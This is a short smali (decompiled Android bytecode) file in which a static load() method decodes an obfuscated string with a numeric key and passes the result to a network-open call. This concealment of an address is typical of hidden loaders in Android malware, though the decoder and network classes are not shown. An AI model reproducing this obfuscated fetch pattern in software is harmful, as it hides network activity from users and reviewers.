.class public Ln1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "vKD$5#*=a<<fb/$OHh_lsK5{\u001a\u0006zS4K"
    const-wide/16 v1, 0x2a
    invoke-static {v0, v1, v2}, Ln1/Dec;->a(Ljava/lang/String;J)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Ln1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

